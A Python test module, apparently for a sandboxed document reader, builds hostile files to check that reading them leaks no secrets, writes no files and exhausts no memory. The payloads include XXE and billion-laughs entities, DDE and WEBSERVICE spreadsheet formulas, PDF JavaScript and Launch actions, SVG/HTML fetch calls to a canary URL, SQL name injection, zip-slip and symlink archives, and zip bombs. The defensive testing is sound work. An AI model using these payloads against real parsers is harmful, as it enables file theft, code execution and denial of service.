"""Documents that point at something: each is read, and nothing leaves, is written, is taken in or fills the memory.

Each snippet makes its document in the worker, from a few lines, and has `read`, `tables` and `page_image` open it. What
the document asks for is at the canary (`URL`), in a file beside it, or a name outside of its folder. A refusal in words
(`ReadError`) is as good as text; any other error is a win.
"""

# ruff: noqa: E501 - lines of documents are as long as their formats want them

from __future__ import annotations

from .snippet import Snippet

HELP = """\
import io, tarfile, zipfile
from pathlib import Path

SECRET = "planted" + "-beside"
FOLDER = Path("/tmp/hostile")
FOLDER.mkdir(exist_ok=True)
(FOLDER / "secret.txt").write_text(SECRET)
FILE = "file:///tmp/hostile/secret.txt"
MOST_GROWTH = 64 << 20

def written():
    return {str(path) for top in ("/tmp", "/home", "/etc", "/context") for path in Path(top).rglob("*")}

def zipped(parts):
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in parts.items():
            archive.writestr(name, data)
    return file.getvalue()

def types(main):
    return (f'<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Override PartName="/m.xml" '
            f'ContentType="application/vnd.openxmlformats-officedocument.{main}.main+xml"/></Types>')

def relations(**of):
    kind = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    rows = "".join(f'<Relationship Id="{key}" Type="{kind}/{type}" Target="{target}" TargetMode="{mode}"/>'
                   for key, (type, target, mode) in of.items())
    return f'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{rows}</Relationships>'

def outside(*types):
    return {f"e{at}{side}": (type, target, "External") for at, type in enumerate(types)
            for side, target in (("u", URL), ("f", FILE))}

ENTITIES = (f'<!DOCTYPE d [<!ENTITY f SYSTEM "{FILE}"><!ENTITY u SYSTEM "{URL}"><!ENTITY % p SYSTEM "{URL}"> %p;'
            '<!ENTITY a "xxxxxxxxxx"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;">'
            '<!ENTITY e "&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;">]>')

def opened(name, data):
    path = FOLDER / name
    path.write_bytes(data if isinstance(data, bytes) else data.encode())
    before, memory = written(), pyodide_js._module.HEAPU8.length
    for function in (read, tables, lambda file: page_image(file, 1)):
        try:
            found = str(function(path))
        except ReadError as fault:
            found = str(fault)
        except Exception as fault:
            won(name, "an error without words:", type(fault).__name__, fault)
            continue
        won(name, "the file beside it") if SECRET in found else None
        won(name, len(found), "characters") if len(found) > 1_000_000 else None
        print(name, found[:60].replace("WON", "won"))
    won(name, "files:", written() - before) if written() - before else None
    grown = pyodide_js._module.HEAPU8.length - memory
    won(name, "memory:", grown) if grown > MOST_GROWTH else None
    path.unlink()

"""

W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
R = 'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"'
A = 'xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main"'
P = 'xmlns:p="http://schemas.openxmlformats.org/presentationml/2006/main"'
S = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'

CODE: dict[str, str] = {
    "a Word document with relations outside": f"""
parts = outside("attachedTemplate", "image", "hyperlink", "oleObject", "subDocument", "aFChunk", "frame", "footnotes")
body = "".join(f'<w:p><w:hyperlink r:id="{{key}}"><w:r><w:t>go</w:t></w:r></w:hyperlink><w:subDoc r:id="{{key}}"/>'
               f'<w:r><w:drawing><a:blip {A} r:link="{{key}}" r:embed="{{key}}"/></w:drawing></w:r></w:p>'
               f'<w:altChunk r:id="{{key}}"/>' for key in parts)
field = f'<w:p><w:fldSimple w:instr="INCLUDETEXT {{FILE}}"><w:r><w:t>x</w:t></w:r></w:fldSimple></w:p>'
document = f'<w:document {W} {R}><w:body>{{body}}{{field}}</w:body></w:document>'
opened("out.docx", zipped({{
    "[Content_Types].xml": types("wordprocessingml.document"), "word/document.xml": document,
    "_rels/.rels": relations(d=("officeDocument", "word/document.xml", "Internal")),
    "word/_rels/document.xml.rels": relations(**parts)}}))
""",
    "a Word document whose parts lie elsewhere": f"""
document = f'<w:document {W}><w:body><w:p><w:r><w:t>x</w:t></w:r></w:p></w:body></w:document>'
inside = {{f"i{{at}}": (type, target, "Internal") for at, type in enumerate(("footnotes", "comments", "image", "styles"))
          for target in ("../../../tmp/hostile/secret.txt", "/tmp/hostile/secret.txt", FILE)}}
opened("up.docx", zipped({{
    "[Content_Types].xml": types("wordprocessingml.document"), "word/document.xml": document,
    "_rels/.rels": relations(d=("officeDocument", "word/document.xml", "Internal")),
    "word/_rels/document.xml.rels": relations(**inside)}}))
""",
    "entities in Word": f"""
document = f'{{ENTITIES}}<w:document {W}><w:body><w:p><w:r><w:t>&f;&u;&e;</w:t></w:r></w:p></w:body></w:document>'
opened("entities.docx", zipped({{
    "[Content_Types].xml": types("wordprocessingml.document"), "word/document.xml": document,
    "_rels/.rels": relations(d=("officeDocument", "word/document.xml", "Internal"))}}))
""",
    "a workbook with links outside, and formulas that call": f"""
cells = "".join(f'<c r="A{{row}}" t="str"><f>{{formula}}</f></c>' for row, formula in enumerate((
    f'WEBSERVICE(&quot;{{URL}}&quot;)', f'HYPERLINK(&quot;{{URL}}&quot;)', "cmd|'/C calc'!A1",
    f"'[{{FILE}}]S'!A1", f'IMAGE(&quot;{{URL}}&quot;)'), 1))
sheet = f'<worksheet {S} {R}><sheetData><row r="1">{{cells}}</row></sheetData><drawing r:id="e0u"/></worksheet>'
book = f'<workbook {S} {R}><sheets><sheet name="S" sheetId="1" r:id="s"/></sheets></workbook>'
opened("out.xlsx", zipped({{
    "[Content_Types].xml": types("spreadsheetml.sheet"), "xl/workbook.xml": book, "xl/worksheets/sheet1.xml": sheet,
    "_rels/.rels": relations(d=("officeDocument", "xl/workbook.xml", "Internal")),
    "xl/_rels/workbook.xml.rels": relations(s=("worksheet", "worksheets/sheet1.xml", "Internal"),
                                            **outside("externalLink", "connections", "sharedStrings")),
    "xl/worksheets/_rels/sheet1.xml.rels": relations(**outside("drawing", "comments", "queryTable"))}}))
""",
    "entities in a workbook": f"""
sheet = f'{{ENTITIES}}<worksheet {S}><sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>&f;&u;&e;</t></is></c></row></sheetData></worksheet>'
book = f'<workbook {S} {R}><sheets><sheet name="S" sheetId="1" r:id="s"/></sheets></workbook>'
opened("entities.xlsx", zipped({{
    "[Content_Types].xml": types("spreadsheetml.sheet"), "xl/workbook.xml": book, "xl/worksheets/sheet1.xml": sheet,
    "_rels/.rels": relations(d=("officeDocument", "xl/workbook.xml", "Internal")),
    "xl/_rels/workbook.xml.rels": relations(s=("worksheet", "worksheets/sheet1.xml", "Internal"))}}))
""",
    "slides with relations outside": f"""
show = f'<p:presentation {P} {R}><p:sldIdLst><p:sldId id="256" r:id="s"/><p:sldId id="257" r:id="e0u"/></p:sldIdLst></p:presentation>'
slide = f'<p:sld {P} {A} {R}><p:cSld><p:spTree><p:pic><p:blipFill><a:blip r:link="e0u"/></p:blipFill></p:pic></p:spTree></p:cSld></p:sld>'
opened("out.pptx", zipped({{
    "[Content_Types].xml": types("presentationml.presentation"), "ppt/presentation.xml": show, "ppt/slides/slide1.xml": slide,
    "_rels/.rels": relations(d=("officeDocument", "ppt/presentation.xml", "Internal")),
    "ppt/_rels/presentation.xml.rels": relations(s=("slide", "slides/slide1.xml", "Internal"), **outside("slide")),
    "ppt/slides/_rels/slide1.xml.rels": relations(**outside("image", "video", "chart", "notesSlide"))}}))
""",
    "an OpenDocument text with sections and entities from outside": """
names = " ".join(f'xmlns:{name}="urn:oasis:names:tc:opendocument:xmlns:{name}:1.0"' for name in ("office", "text", "drawing"))
link = 'xmlns:xlink="http://www.w3.org/1999/xlink"'
for target in (URL, FILE, "../secret.txt"):
    body = (f'<text:section><text:section-source {link} xlink:href="{target}"/></text:section>'
            f'<text:p><drawing:image {link} xlink:href="{target}"/>x</text:p>')
    for entities, text in (("", "x"), (ENTITIES, "&f;&u;&e;")):
        content = f'{entities}<office:document-content {names}><office:body><office:text>{body}<text:p>{text}</text:p></office:text></office:body></office:document-content>'
        opened("out.odt", zipped({"mimetype": "application/vnd.oasis.opendocument.text", "content.xml": content}))
opened("out.fodt", f'<?xml version="1.0"?>{ENTITIES}<office:document {names}><text:p>&f;&u;</text:p></office:document>')
""",
    "an SVG with a script and an image": """
opened("out.svg", f'<svg xmlns="http://www.w3.org/2000/svg" onload="fetch(`{URL}`)"><script href="{URL}"/>'
       f'<image href="{URL}"/><use href="{FILE}#x"/><style>@import url({URL});</style><text>x</text></svg>')
opened("entities.svg", f'<?xml version="1.0"?>{ENTITIES}<svg xmlns="http://www.w3.org/2000/svg"><text>&f;&u;&e;</text></svg>')
""",
    "a page with all that a browser loads": """
tags = "".join(f'<script src="{to}"></script><img src="{to}" srcset="{to} 2x"><link rel="stylesheet" href="{to}"><iframe src="{to}"></iframe>'
               f'<object data="{to}"></object><video src="{to}"></video><base href="{to}"><meta http-equiv="refresh" content="0;url={to}">'
               f'<style>@import url({to});</style><form action="{to}"><input autofocus onfocus="fetch(`{to}`)"></form>' for to in (URL, FILE))
opened("out.html", f"<html><body onload='fetch(`{URL}`)'>{tags}<table><tr><td>x</td></tr></table></body></html>")
opened("out.mhtml", f'From: a\\nSubject: b\\nMIME-Version: 1.0\\nContent-Type: multipart/related; boundary=c\\n\\n--c\\nContent-Type: text/html\\nContent-Location: {URL}\\n\\n<html>{tags}</html>\\n--c--\\n')
""",
    "an e-book whose chapters lie elsewhere": """
container = '<container xmlns="urn:oasis:names:tc:opendocument:xmlns:container"><rootfiles><rootfile full-path="{}"/></rootfiles></container>'
for at in ("../../tmp/hostile/secret.txt", "/tmp/hostile/secret.txt", FILE, URL, "b.opf"):
    items = "".join(f'<item id="i{n}" href="{to}" media-type="application/xhtml+xml"/>' for n, to in enumerate((URL, FILE, "../../tmp/hostile/secret.txt", "c.xhtml")))
    spine = "".join(f'<itemref idref="i{n}"/>' for n in range(4))
    opened("out.epub", zipped({"mimetype": "application/epub+zip", "META-INF/container.xml": container.format(at),
        "b.opf": f'<package xmlns="http://www.idpf.org/2007/opf"><manifest>{items}</manifest><spine>{spine}</spine></package>',
        "c.xhtml": f'<html><img src="{URL}"/><script src="{URL}"/><p>x</p></html>'}))
""",
    "a mail whose body lies elsewhere": """
head = "From: a@example.org\\nSubject: b\\nMIME-Version: 1.0\\n"
for kind in (f"message/external-body; access-type=local-file; name=/tmp/hostile/secret.txt", f"message/external-body; access-type=URL; URL={URL}", "message/partial; id=a; number=1; total=2"):
    opened("out.eml", f"{head}Content-Type: {kind}\\n\\nContent-Type: text/plain\\n\\nx\\n")
opened("named.eml", f'{head}Content-Type: multipart/mixed; boundary=c\\n\\n--c\\nContent-Type: text/plain; name="../../up.txt"\\nContent-Disposition: attachment; filename="/tmp/up.txt"\\n\\nx\\n--c--\\n')
opened("nested.eml", (head + "Content-Type: message/rfc822\\n\\n") * 150 + head + "\\nx\\n")
""",
    "a PDF that acts": """
objects = ["<</Type/Catalog/Pages 2 0 R/OpenAction 5 0 R/AA<</WC 5 0 R>>/AcroForm<</Fields[]/XFA 7 0 R>>/Names<</JavaScript<</Names[(a) 5 0 R]>>/EmbeddedFiles<</Names[(b) 8 0 R]>>>>>>",
    "<</Type/Pages/Kids[3 0 R]/Count 1>>",
    "<</Type/Page/Parent 2 0 R/MediaBox[0 0 99 99]/Contents 4 0 R/Annots[6 0 R 10 0 R 11 0 R]/AA<</O 5 0 R>>/Resources<</Font<</F<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>>>>>>>",
    "<</Length 30>>stream\\nBT /F 9 Tf 9 9 Td (words) Tj ET\\nendstream",
    f"<</S/JavaScript/JS(app.launchURL\\\\('{URL}'\\\\); this.exportDataObject\\\\({{cName:'b',nLaunch:2}}\\\\);)>>",
    f"<</Type/Annot/Subtype/Link/Rect[0 0 99 99]/A<</S/URI/URI({URL})>>>>",
    f"<</Length 400>>stream\\n<!DOCTYPE d [<!ENTITY f SYSTEM '{FILE}'>]><xdp>&f;</xdp>".ljust(400) + "\\nendstream",
    f"<</Type/Filespec/F(../../up.txt)/UF(/tmp/up.txt)/FS/URL/EF<</F 9 0 R>>>>",
    "<</Type/EmbeddedFile/Length 1>>stream\\nx\\nendstream",
    f"<</Type/Annot/Subtype/Link/Rect[0 0 99 99]/A<</S/Launch/F(/tmp/hostile/secret.txt)/Win<</F(calc.exe)>>>>>>",
    f"<</Type/Annot/Subtype/Link/Rect[0 0 99 99]/A<</S/GoToR/F<</FS/URL/F({URL})>>/D[0]/Next<</S/SubmitForm/F({URL})/Next<</S/ImportData/F({FILE})>>>>>>>>"]
opened("acts.pdf", "%PDF-1.7\\n" + "".join(f"{n} 0 obj{body}endobj\\n" for n, body in enumerate(objects, 1)) + "trailer<</Root 1 0 R>>\\n%%EOF")
""",
    "a PDF whose content is another file": """
outside = f"<</Length 9/F({FILE})/FFilter/None>>stream\\nBT ET 123\\nendstream"
objects = ["<</Type/Catalog/Pages 2 0 R>>", "<</Type/Pages/Kids[3 0 R 2 0 R]/Count 2>>", "<</Type/Page/Parent 2 0 R/MediaBox[0 0 99 99]/Contents 4 0 R>>", outside]
opened("refers.pdf", "%PDF-1.7\\n" + "".join(f"{n} 0 obj{body}endobj\\n" for n, body in enumerate(objects, 1)) + "trailer<</Root 1 0 R>>\\n%%EOF")
""",
    "a database whose names and views are programs": """
import sqlite3
base = sqlite3.connect(":memory:")
base.execute("create table t(a)")
base.execute("insert into t values ('x')")
base.execute('create table "x""; attach ''/tmp/up.db'' as y; create table y.z(a); --"(a)')
base.execute("create view loads as select load_extension('/tmp/hostile/secret.txt')")
base.execute("create view endless as with recursive n(x) as (select 1 union all select x + 1 from n) select count(*) from n")
base.execute("create view wide as select zeroblob(900000000) as x")
base.commit()
opened("acts.sqlite", base.serialize())
""",
    "an archive with names that lead out": """
names = ["../../../tmp/up.txt", "/tmp/up.txt", "..\\\\..\\\\up.txt", "C:/up.txt", "a/../../up.txt", "\\u202etxt.exe"]
opened("names.zip", zipped({name: "x" for name in names}))
link = zipfile.ZipInfo("link"); link.external_attr = 0o120777 << 16
file = io.BytesIO()
with zipfile.ZipFile(file, "w") as archive:
    archive.writestr(link, "/tmp/hostile/secret.txt"); archive.writestr("link/up.txt", "x")
opened("link.zip", file.getvalue())
for mode in ("w", "w:gz", "w:xz"):
    file = io.BytesIO()
    with tarfile.open(fileobj=file, mode=mode) as archive:
        for number, kind in enumerate((tarfile.SYMTYPE, tarfile.LNKTYPE, tarfile.CHRTYPE, tarfile.FIFOTYPE)):
            entry = tarfile.TarInfo(f"link{number}"); entry.type, entry.linkname = kind, "/tmp/hostile/secret.txt"
            archive.addfile(entry)
        for name in names:
            entry = tarfile.TarInfo(name); entry.size = 1
            archive.addfile(entry, io.BytesIO(b"x"))
    opened("names.tar" + mode[1:].replace(":", "."), file.getvalue())
""",
    "an archive that says it holds more than it does, or holds more than may be": """
import struct
data = bytearray(zipped({"a.txt": "x" * 1000}))
at = data.rindex(b"PK\\x01\\x02")
data[at + 24:at + 28] = struct.pack("<I", 0xFFFFFFF0)
opened("says.zip", bytes(data))
from readers import archives
most, archives.MAX_BYTES = archives.MAX_BYTES, 1 << 20
try:
    inner = zipped({"a.txt": b"0" * (4 << 20)})
    opened("full.zip", zipped({f"{n}.zip": inner for n in range(20)}))
    import gzip, lzma
    opened("full.gz", gzip.compress(b"0" * (4 << 20)))
    opened("full.xz", lzma.compress(b"0" * (4 << 20)))
finally:
    archives.MAX_BYTES = most
""",
    "a document whose parts unpack to too much": f"""
import readers
most, readers.MAX_UNPACKED["docx"] = readers.MAX_UNPACKED["docx"], 1 << 20
try:
    opened("full.docx", zipped({{"[Content_Types].xml": types("wordprocessingml.document"), "word/document.xml": '<w:document {W}>' + " " * (4 << 20) + "</w:document>"}}))
finally:
    readers.MAX_UNPACKED["docx"] = most
opened("full.odt", zipped({{"mimetype": "x" * 900_000}}))
""",
    "columns and rich text that are not what they say": """
opened("x.parquet", b"PAR1" + b"\\xff" * 64 + b"\\xff\\xff\\xff\\x7fPAR1")
opened("x.arrow", b"ARROW1" + b"\\xff" * 64)
opened("x.rtf", "{\\\\rtf1 {\\\\field{\\\\*\\\\fldinst INCLUDETEXT " + FILE + "}}{\\\\object\\\\objautlink{\\\\*\\\\objclass " + URL + "}}" + "{" * 3000 + "x" + "}" * 3000 + "}")
opened("x.ipynb", json.dumps({"nbformat": 4, "cells": [{"cell_type": "markdown", "source": f"![a]({URL})<script src='{URL}'></script>"}]}))
opened("x.xml", "<!---->" * 1000 + "x")
""",
}
SNIPPETS = tuple(Snippet(name, "readers", HELP + code.strip()) for name, code in CODE.items())
